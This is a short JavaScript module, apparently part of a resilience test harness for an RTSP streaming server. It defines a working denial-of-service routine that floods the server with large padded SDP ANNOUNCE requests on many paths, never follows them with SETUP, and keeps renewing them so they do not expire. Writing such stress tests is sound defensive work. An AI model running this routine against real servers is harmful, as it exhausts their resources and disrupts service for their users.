/** Announcements of large descriptions that no SETUP follows, made again before they expire. */
import { RtspPeer } from '../support/rtsp-peer.mjs'
import { attackerAddress, authorityOf, inParallel, sleep } from './addresses.mjs'

export async function attack({ host, port, paths, bodyBytes, renewSeconds }, stage) {
  const base = `rtsp://${authorityOf({ host, port })}`
  const head =
    'v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nt=0 0\r\nm=video 0 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n'
  const line = `a=x:${'y'.repeat(200)}\r\n`
  const body = head + line.repeat(Math.floor((bodyBytes - head.length) / line.length))
  const counts = { announced: 0, refused: 0 }
  const peers = new Map()
  const announce = async (number) => {
    try {
      let peer = peers.get(number)
      if (!peer || peer.socket.destroyed) {
        peer = await RtspPeer.connect({ host, port, localAddress: attackerAddress(0) })
        peers.set(number, peer)
      }
      const headers = { 'Content-Type': 'application/sdp' }
      const { status } = await peer.request('ANNOUNCE', `${base}/claimed/${number}`, headers, body)
      counts[status === 200 ? 'announced' : 'refused']++
    } catch {
      counts.refused++
    }
  }
  let isStanding = false
  while (!stage.signal.aborted) {
    await inParallel(paths, 20, stage.signal, announce)
    if (!isStanding) stage.standing()
    isStanding = true
    for (let waited = 0; waited < renewSeconds && !stage.signal.aborted; waited += 0.25)
      await sleep(250)
  }
  return counts
}
